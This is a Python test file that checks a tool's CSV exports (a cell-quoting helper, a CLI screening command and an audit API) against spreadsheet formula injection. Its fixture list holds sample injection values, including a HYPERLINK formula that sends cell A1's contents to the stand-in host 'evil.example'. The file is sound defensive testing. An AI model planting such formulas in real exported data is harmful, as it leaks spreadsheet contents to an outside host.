"""CSV we write never starts a cell with a formula (= + - @, or a tab or CR before one)."""

from __future__ import annotations

import csv
import io
import json

from click.testing import CliRunner

from integration.cli import main
from integration.spreadsheet import safe_cell
from store import audit, review
from store.db import make_engine
from tests.review_helpers import bearer, make_app, tenant_with_queue

FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)", "+1-2", "-2+3"]
HIDDEN = ["\t=1+2", "\r=1+2"]  # importers that strip leading whitespace then see a formula


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_safe_cell_quotes_formula_starts_and_leaves_the_rest() -> None:
    for text in FORMULAS + HIDDEN:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Maria Lopez") == "Maria Lopez"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-3.5) == -3.5 and safe_cell(None) is None and safe_cell(True) is True


def test_screen_csv_output_escapes_names_and_ids(tmp_path) -> None:
    rows = [
        {"id": f"-{i}+1" if i % 2 else f"id{i}", "name": text} for i, text in enumerate(FORMULAS + HIDDEN)
    ]
    path = tmp_path / "in.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    result = CliRunner().invoke(main, ["screen", str(path), "--lists", "demo", "--format", "csv"])
    assert result.exit_code == 0, result.output
    out = list(csv.reader(io.StringIO(result.stdout)))[1:]
    assert len(out) == len(rows)
    for row, original in zip(out, rows, strict=True):
        assert not any(_dangerous(cell) for cell in row), row
        assert row[0].removeprefix("'") == original["id"]  # the quote is all that changed


def test_audit_csv_escapes_tab_and_carriage_return(sqlite_url, tmp_path) -> None:
    engine = make_engine(sqlite_url)
    with engine.begin() as conn:
        tenant_with_queue(conn, "acme")
        _, token = review.create_token(conn, "acme", review.Scope.REVIEWER)
        for text in FORMULAS + HIDDEN:
            audit.record(conn, action="decision", actor=text, installation_id="acme", subject=text)
    client = make_app(sqlite_url, tmp_path).test_client()
    body = client.get("/api/v1/audit?format=csv", headers=bearer(token)).data.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    written = [r for r in rows if r["action"] == "decision"]
    assert len(written) == len(FORMULAS + HIDDEN)
    for row in written:
        assert not _dangerous(row["subject"]) and not _dangerous(row["actor"]), row
